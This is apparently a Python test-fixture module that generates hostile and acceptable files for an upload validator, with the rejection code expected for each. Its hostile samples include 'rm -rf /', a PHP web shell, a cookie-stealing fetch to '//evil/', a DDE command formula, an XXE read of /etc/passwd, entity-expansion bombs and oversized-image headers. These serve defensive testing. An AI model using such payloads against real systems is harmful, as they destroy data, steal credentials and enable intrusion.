"""Files that somebody sends to hurt, or by mistake; each is made here, in milliseconds, and none comes from outside."""

import io
import struct
import zlib
from collections.abc import Callable, Mapping

from PIL import Image

from tests.domain.shared.hostile_archives import HOSTILE as ARCHIVES
from tests.domain.shared.hostile_archives import lying, plain

WORKBOOK = {
    "[Content_Types].xml": b'<?xml version="1.0"?><Types/>',
    "xl/workbook.xml": b'<?xml version="1.0"?><workbook/>',
    "xl/worksheets/sheet1.xml": b'<?xml version="1.0"?><worksheet><sheetData/></worksheet>',
}
SHAPEFILE = {
    "county.shp": b"\0\0\x27\x0a",
    "county.shx": b"\0\0\x27\x0a",
    "county.dbf": b"\3",
    "county.cpg": b"GBK",
}
LAUGHS = b"""<?xml version="1.0"?><!DOCTYPE z [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;">]>"""
KML = b'<?xml version="1.0" encoding="UTF-8"?>\n<!-- exported -->\n<kml xmlns="http://www.opengis.net/kml/2.2"/>'
GEOJSON = b'{"type": "FeatureCollection", "features": []}'
SCRIPT = b"<script>fetch('/graphql')</script>"


def picture(
    kind: str = "JPEG", size: tuple[int, int] = (300, 200), mode: str = "RGB", **options: object
) -> bytes:
    made = io.BytesIO()
    Image.effect_noise(size, 40).convert(mode).save(made, kind, **options)
    return made.getvalue()


def with_place() -> bytes:
    """A photograph that says where it was taken, by which telephone, and that it lies on its side."""
    exif = Image.Exif()
    exif[0x0110] = "PHONE OF MR WANG"
    exif[0x0112] = 6
    exif.get_ifd(0x8825).update({1: "N", 2: (33.0, 47.0, 12.0), 3: "E", 4: (119.0, 48.0, 30.0)})
    return picture(exif=exif, comment=b"a comment")


def png_that_says(width: int, height: int) -> bytes:
    """A PNG of two hundred bytes that says to be so large."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))
        )

    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + chunk(b"IDAT", zlib.compress(bytes(4_096))) + chunk(b"IEND", b"")


def jpeg_that_says(width: int, height: int) -> bytes:
    """An ordinary JPEG whose frame says to be larger."""
    whole = bytearray(picture())
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(whole)


HOSTILE: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "nothing": (lambda: b"", "FILE_NOT_WANTED"),
    "a Linux program": (lambda: b"\x7fELF\2\1\1" + bytes(64), "FILE_NOT_WANTED"),
    "a Windows program": (lambda: b"MZ\x90\0\3\0\0\0" + bytes(64), "FILE_NOT_WANTED"),
    "a shell script": (lambda: b"#!/bin/sh\nrm -rf /\n", "FILE_NOT_WANTED"),
    "a batch file": (lambda: b"@echo off\r\nformat c:\r\n", "FILE_NOT_WANTED"),
    "PHP": (lambda: b"<?php system($_GET['c']); ?>", "FILE_NOT_WANTED"),
    "JavaScript": (lambda: b"var x = document.cookie;\nfetch('//evil/' + x)\n", "FILE_NOT_WANTED"),
    "a page": (lambda: b"<!DOCTYPE html><html>" + SCRIPT, "FILE_NOT_WANTED"),
    "a page behind a mark and blanks": (lambda: b"\xef\xbb\xbf\n\n  <html>" + SCRIPT, "FILE_NOT_WANTED"),
    "a sheet that is a page": (lambda: b"<table><tr><td>=cmd|'/c calc'!A1", "FILE_NOT_WANTED"),
    "an SVG with a script": (lambda: b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT, "FILE_NOT_WANTED"),
    "an SVG behind a comment": (
        lambda: b'<?xml version="1.0"?><!-- x --><svg onload="x()"/>',
        "FILE_NOT_WANTED",
    ),
    "a PDF": (lambda: b"%PDF-1.7\n", "FILE_NOT_WANTED"),
    "a PDF that is a page": (lambda: b"%PDF-1.7\n<html>" + SCRIPT, "FILE_NOT_WANTED"),
    "an old workbook": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504), "FILE_NOT_WANTED"),
    "a document": (
        lambda: plain({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
        "FILE_NOT_WANTED",
    ),
    "a workbook with macros": (
        lambda: plain({**WORKBOOK, "xl/vbaProject.bin": b"\xd0\xcf"}),
        "FILE_NOT_WANTED",
    ),
    "a workbook that laughs": (
        lambda: plain({**WORKBOOK, "xl/sharedStrings.xml": LAUGHS + b"<sst>&lol1;</sst>"}),
        "FILE_HAS_ENTITIES",
    ),
    "a workbook that laughs in UTF-16": (
        lambda: plain({**WORKBOOK, "xl/sharedStrings.xml": LAUGHS.decode().encode("utf-16")}),
        "FILE_HAS_ENTITIES",
    ),
    "a workbook inside a workbook": (
        lambda: plain({**WORKBOOK, "xl/embeddings/a.bin": plain(WORKBOOK)}),
        "ARCHIVE_NOT_PLAIN",
    ),
    "a workbook with a page behind it": (lambda: plain(WORKBOOK) + b"<html>" + SCRIPT, "ARCHIVE_NOT_WHOLE"),
    "KML that laughs": (lambda: LAUGHS + b"<kml>&lol1;</kml>", "FILE_HAS_ENTITIES"),
    "KML that reads other files": (
        lambda: b'<!DOCTYPE kml [<!ENTITY x SYSTEM "file:///etc/passwd">]><kml>&x;</kml>',
        "FILE_HAS_ENTITIES",
    ),
    "JSON that is no map": (lambda: b'{"type": "module", "main": "x.js"}', "FILE_NOT_WANTED"),
    "a Shapefile with a page beside": (
        lambda: plain({**SHAPEFILE, "index.html": SCRIPT}),
        "FILE_PART_NOT_WANTED",
    ),
    "a Shapefile with a program": (
        lambda: plain({**SHAPEFILE, "setup.exe": b"MZ\0"}),
        "FILE_PART_NOT_WANTED",
    ),
    "half a Shapefile": (lambda: plain({"county.shp": b"1", "county.dbf": b"2"}), "FILE_PART_MISSING"),
    "an archive of texts": (lambda: plain({"a.txt": b"1"}), "FILE_NOT_WANTED"),
    "a jar": (
        lambda: plain({"META-INF/MANIFEST.MF": b"1", "X.class": b"\xca\xfe\xba\xbe"}),
        "FILE_NOT_WANTED",
    ),
    "an archive that lies": (
        lambda: lying(4_000, 30_000_000).replace(b"a.xml", b"a.shp"),
        "FILE_PART_MISSING",
    ),
    "gzip": (lambda: b"\x1f\x8b\x08" + bytes(32), "FILE_NOT_WANTED"),
    "another database": (lambda: b"SQLite format 3\0" + bytes(84), "FILE_NOT_WANTED"),
    "text in UTF-16": (lambda: "机构,名称".encode("utf-16"), "FILE_NOT_WANTED"),
    "bytes": (lambda: bytes(range(256)) * 9, "FILE_NOT_WANTED"),
    "text with a NUL": (lambda: b"a,b\n1,\x002\n", "FILE_NOT_WANTED"),
    "a HEIC photograph": (lambda: b"\0\0\0\x18ftypheic" + bytes(64), "FILE_NOT_WANTED"),
    "a GIF that is an archive": (lambda: b"GIF89a" + plain(SHAPEFILE), "FILE_NOT_WANTED"),
    "a bitmap": (lambda: picture("BMP"), "FILE_NOT_WANTED"),
    **{f"an archive: {what}": made for what, made in ARCHIVES.items() if made[0]().startswith(b"PK\3\4")},
}
"""What it is, how it is made, and the code with which it is refused, found out without decoding anything."""

HOSTILE_PICTURES: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "a PNG of 100 megapixels in 200 bytes": (lambda: png_that_says(10_000, 10_000), "PICTURE_TOO_LARGE"),
    "a JPEG of 4,000 megapixels": (lambda: jpeg_that_says(65_000, 65_000), "PICTURE_TOO_LARGE"),
    "a JPEG cut off": (lambda: picture()[:400], "FILE_NOT_READABLE"),
    "a head without a picture": (lambda: b"\xff\xd8\xff\xe0" + SCRIPT * 9, "FILE_NOT_READABLE"),
    "a picture where sheets are taken": (picture, "FILE_KIND_NOT_WANTED"),
}

WELCOME: Mapping[str, tuple[Callable[[], bytes], str]] = {
    "a sheet": ("工号,姓名\n1,王\n".encode, "CSV"),
    "a sheet in GBK": (lambda: "工号,姓名\n1,王\n".encode("gbk"), "CSV"),
    "a bank's own delimiter": (lambda: b"1\x1d2\n3\x1d4\n", "CSV"),
    "a sheet that begins like a bitmap": (lambda: b"BM,name\n1,2\n", "CSV"),
    "a workbook": (lambda: plain(WORKBOOK), "XLSX"),
    "a Shapefile": (lambda: plain(SHAPEFILE), "SHAPEFILE"),
    "one packed on a Macintosh": (
        lambda: plain({**SHAPEFILE, "__MACOSX/._county.shp": b"\0\5"}),
        "SHAPEFILE",
    ),
    "GeoJSON": (lambda: GEOJSON, "GEOJSON"),
    "KML": (lambda: KML, "KML"),
    "a GeoPackage": (lambda: b"SQLite format 3\0" + bytes(52) + b"GPKG" + bytes(28), "GPKG"),
    "a photograph": (picture, "JPEG"),
    "a screenshot": (lambda: picture("PNG"), "PNG"),
    "a WebP": (lambda: picture("WEBP"), "WEBP"),
}
